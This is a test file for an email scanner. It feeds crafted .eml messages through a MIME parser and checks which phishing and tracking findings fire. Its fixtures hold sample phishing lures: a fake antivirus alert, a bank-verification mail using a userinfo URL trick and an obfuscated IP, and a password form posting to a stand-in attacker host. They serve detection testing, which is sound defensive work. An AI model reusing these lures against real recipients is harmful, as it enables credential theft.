import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { defaultConfig } from '../../config/load.js';
import { createScanner } from '../../runtime/index.js';

// End to end: raw .eml text → MIME parser → every family → score. Expected AND forbidden ids per case.
const scanner = await createScanner({ config: defaultConfig(), services: { now: () => new Date('2024-12-02T02:00:00Z') } });
const VICTIM = 'victim@example.jp';

function eml(headers: Record<string, string>, html: string, text?: string): Uint8Array {
  const head = Object.entries({ Date: 'Mon, 2 Dec 2024 10:00:00 +0900', 'Message-ID': '<1@sender.example>', 'MIME-Version': '1.0', ...headers })
    .map(([k, v]) => `${k}: ${v}`)
    .join('\r\n');
  const b64 = (s: string) => Buffer.from(s).toString('base64').replace(/.{76}/g, '$&\r\n');
  const body = text
    ? `Content-Type: multipart/alternative; boundary="b1"\r\n\r\n--b1\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n${b64(text)}\r\n--b1\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n${b64(html)}\r\n--b1--\r\n`
    : `Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n${b64(html)}\r\n`;
  return new TextEncoder().encode(`${head}\r\n${body}`);
}
const encodedWord = (s: string) => `=?UTF-8?B?${Buffer.from(s).toString('base64')}?=`;

async function scan(raw: Uint8Array) {
  const report = await scanner.scan({ raw, source: 'test.eml' });
  return { report, ids: new Set(report.findings.map((f) => f.id)) };
}

function expectIds(ids: Set<string>, expected: string[], forbidden: string[]) {
  for (const id of expected) assert.ok(ids.has(id), `expected ${id} in ${[...ids].join(', ')}`);
  for (const id of forbidden) assert.ok(!ids.has(id), `forbidden ${id} fired`);
}

test('eml: the torendmicro mail — recipient address base64url in the link query', async () => {
  const uid = Buffer.from(VICTIM).toString('base64url');
  const raw = eml(
    { From: `${encodedWord('ウイルスバスター')} <torendmicro.com@js8a.r2kq.net>`, To: VICTIM, Subject: encodedWord('【警告】今すぐ無料のウイルスチェックを行ってください') },
    `<html><body><p>お使いのパソコンがウイルスに感染している可能性があります。</p><p><a href="https://r2kq.net/scan/?uid=${uid}&amp;s=1">今すぐ無料スキャンをする</a></p></body></html>`,
  );
  const { report, ids } = await scan(raw);
  expectIds(ids, ['URL_RECIPIENT_ENCODED'], ['URL_TEXT_DOMAIN_MISMATCH', 'URL_UNIQUE_TOKEN', 'URL_WEB_BUG']);
  const finding = report.findings.find((f) => f.id === 'URL_RECIPIENT_ENCODED')!;
  assert.match(finding.evidence, /query parameter `uid` = base64url of victim@example\.jp/);
  assert.ok(report.iocs.urls.includes(`https://r2kq.net/scan/?uid=${uid}&s=1`));
  assert.ok(report.iocs.domains.includes('r2kq.net'));
});

test("eml: the recipient's SHA-256 in an image path (web bug)", async () => {
  const sha = createHash('sha256').update(VICTIM).digest('hex');
  const raw = eml({ From: 'Shop <news@mailer.example>', To: `Victim <${VICTIM}>`, Subject: 'Sale' }, `<p>Sale!</p><img src="https://t.mailer.example/o/${sha}/open.gif" width="1" height="1" alt="">`);
  const { report, ids } = await scan(raw);
  expectIds(ids, ['URL_RECIPIENT_ENCODED', 'URL_WEB_BUG'], ['URL_RECIPIENT_ADDRESS']);
  assert.match(report.findings.find((f) => f.id === 'URL_RECIPIENT_ENCODED')!.evidence, /path segment 2 = SHA-256 of victim@example\.jp/);
});

test('eml: an ordinary newsletter with a campaign id has no recipient or token finding', async () => {
  const raw = eml(
    { From: 'Example Shop <news@shop.example.com>', To: VICTIM, Subject: 'Spring sale', 'List-Unsubscribe': '<mailto:unsubscribe@shop.example.com>' },
    '<p>Our spring sale starts today.</p><p><a href="https://shop.example.com/spring?utm_source=newsletter&amp;utm_medium=email&amp;utm_campaign=spring2024">See the offers</a></p>' +
      '<p><a href="https://www.shop.example.com/">shop.example.com</a></p><img src="https://shop.example.com/img/spring-banner.jpg" width="600" height="300" alt="Spring">' +
      '<img src="https://stats.shop.example.com/open.gif?c=spring2024" width="1" height="1">',
    'Our spring sale starts today: https://shop.example.com/spring?utm_campaign=spring2024',
  );
  const { report, ids } = await scan(raw);
  expectIds(ids, ['URL_WEB_BUG'], ['URL_RECIPIENT_ADDRESS', 'URL_RECIPIENT_ENCODED', 'URL_EMAIL_IN_URL', 'URL_UNIQUE_TOKEN', 'URL_TEXT_DOMAIN_MISMATCH']);
  assert.equal(report.verdict, 'clean');
});

test('eml: deceptive links — userinfo trick, https shown/http linked, obfuscated IP, password form', async () => {
  const raw = eml(
    { From: 'Bank Security <security@bank-alerts.example>', To: VICTIM, Subject: 'Verify your account' },
    '<p><a href="http://www.bank.example@evil.example.net/login">https://www.bank.example/login</a></p>' +
      '<p><a href="http://0xC0.0xA8.0x01.0x01/verify">Verify</a></p>' +
      '<form action="https://collect.evil.top/p.php" method="post"><input type="password" name="pw"><input type="submit"></form>',
  );
  const { report, ids } = await scan(raw);
  expectIds(ids, ['URL_USERINFO', 'URL_TEXT_DOMAIN_MISMATCH', 'URL_HTTPS_TEXT_HTTP_HREF', 'URL_IP_OBFUSCATED', 'URL_FORM_PASSWORD', 'URL_FORM_EXTERNAL'], ['URL_IP_HOST']);
  assert.equal(report.verdict, 'phishing');
  assert.ok(report.iocs.ips.includes('192.168.1.1'));
});

test('eml: URLs in plain text glued to Japanese are cut at the Japanese text', async () => {
  const raw = eml({ From: 'a@sender.example', To: VICTIM, Subject: 'x' }, '<p>本文</p>', '詳しくはhttps://example.co.jp/campaign。またはwww.example.jpへ');
  const { report } = await scan(raw);
  assert.ok(report.iocs.urls.includes('https://example.co.jp/campaign'), report.iocs.urls.join());
  assert.ok(report.iocs.urls.includes('http://www.example.jp/'), report.iocs.urls.join());
});
